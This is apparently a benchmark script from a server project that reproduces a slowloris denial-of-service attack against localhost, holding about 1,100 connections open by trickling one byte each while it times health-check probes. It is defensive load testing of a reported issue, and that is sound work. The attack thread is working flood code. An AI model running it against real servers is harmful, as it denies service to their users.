"""Issue 16 item 2's attack: C connections trickle a request head, one
byte per connection every INTERVAL seconds, and reconnect when the server
closes them. Meanwhile a normal client asks GET /healthz PROBES times on a
fresh connection and records how long it waits for an answer (any status;
a reset or close counts as an answer too, and is reported separately) or
gives up after TIMEOUT seconds.

Usage: python3 bench/slowloris.py PORT [CONNECTIONS=1100] [PROBES=5]
Prints the probes' waits (s), their median and what they got.
"""
import selectors
import socket
import statistics
import sys
import threading
import time

INTERVAL = 1.0
TIMEOUT = 15.0
HEAD = b"GET /healthz HTTP/1.1\r\nHost: bench\r\nX-Trickle: " + b"a" * 4000


def attacker(port, n, stop):
    conns = {}

    def open_one():
        try:
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex(("127.0.0.1", port))
            conns[s] = 0
        except OSError:
            pass

    for _ in range(n):
        open_one()
    while not stop.is_set():
        t0 = time.time()
        for s in list(conns):
            try:
                k = conns[s]
                s.send(HEAD[k % len(HEAD):k % len(HEAD) + 1])
                conns[s] = k + 1
            except BlockingIOError:
                pass
            except OSError:
                s.close()
                del conns[s]
                open_one()
        stop.wait(max(0.0, INTERVAL - (time.time() - t0)))
    for s in conns:
        s.close()


def probe(port):
    t0 = time.time()
    s = socket.socket()
    s.settimeout(TIMEOUT)
    try:
        s.connect(("127.0.0.1", port))
        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: bench\r\nConnection: close\r\n\r\n")
        data = s.recv(4096)
        got = data.split(b"\r\n", 1)[0].decode("latin1").split(" ")[1] if data else "closed"
    except socket.timeout:
        got = "timeout"
    except OSError as e:
        got = "reset" if isinstance(e, ConnectionResetError) else type(e).__name__
    finally:
        s.close()
    return time.time() - t0, got


def main():
    port = int(sys.argv[1])
    n = int(sys.argv[2]) if len(sys.argv) > 2 else 1100
    probes = int(sys.argv[3]) if len(sys.argv) > 3 else 5
    stop = threading.Event()
    t = threading.Thread(target=attacker, args=(port, n, stop))
    t.start()
    time.sleep(3)  # every connection open and trickling
    waits, answers = [], []
    for _ in range(probes):
        w, got = probe(port)
        waits.append(w)
        answers.append(got)
        time.sleep(1)
    stop.set()
    t.join()
    print("connections %d  waits %s  median %.3f s  answers %s" % (
        n, " ".join("%.3f" % w for w in waits), statistics.median(waits), answers))


if __name__ == "__main__":
    main()
